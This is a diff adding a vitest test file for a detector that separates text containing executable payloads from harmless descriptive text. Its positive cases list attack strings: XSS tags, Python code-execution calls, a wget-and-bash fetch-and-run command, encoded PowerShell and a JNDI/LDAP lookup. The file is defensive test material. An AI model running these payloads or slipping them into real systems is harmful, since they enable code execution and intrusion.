@@ -1,0 +1,53 @@
+import { describe, expect, test } from 'vitest';
+import { Budget } from '#formats/budget';
+import { defaultLimits, LimitReached } from '#formats/limits';
+import { addressesIn, textPayload } from './text-payload.ts';
+
+const found = (text: string) => textPayload(text, new Budget())?.what;
+
+describe('text that acts', () => {
+  test.each([
+    '<ScRiPt src=x>',
+    '<img src=x onerror=alert(1)>',
+    '<iframe src="http://x">',
+    'javascript:alert(1)',
+    '__import__("os")',
+    'x = os.popen("id")',
+    'exec(base64.b64decode("..."))',
+    'pickle.loads(data)',
+    'wget http://x/a.sh && bash a.sh',
+    'bash -c "id"',
+    'powershell -enc SQBFAFgA',
+    '$' + '{jndi:ldap://x}',
+    '\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d\\x28\\x22\\x69\\x64\\x22\\x29',
+  ])('%s', (text) => {
+    expect(found(text)).toBeDefined();
+  });
+});
+
+describe('text that describes', () => {
+  test.each([
+    'Call model.eval() before inference; see https://example.org.',
+    'The system evaluates 3 < 5 and onward = fine.',
+    'Executive summary: commands (none). Import os settings from the config.',
+    'norm -r used as residual, chmod not needed',
+    'q8_0 quantised with llama.cpp, bash users welcome',
+    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
+  ])('%s', (text) => {
+    expect(found(text)).toBeUndefined();
+  });
+});
+
+test('texts without end are counted against the budget', () => {
+  const budget = new Budget({ ...defaultLimits, maxSteps: 1000 });
+  expect(() => {
+    for (let round = 0; round < 100; round += 1) textPayload('<a '.repeat(100), budget);
+  }).toThrow(LimitReached);
+});
+
+test('addresses are listed once each, within a bound', () => {
+  expect(addressesIn('see http://a.example/x and http://a.example/x, https://b.example', 5)).toEqual([
+    'http://a.example/x',
+    'https://b.example',
+  ]);
+});
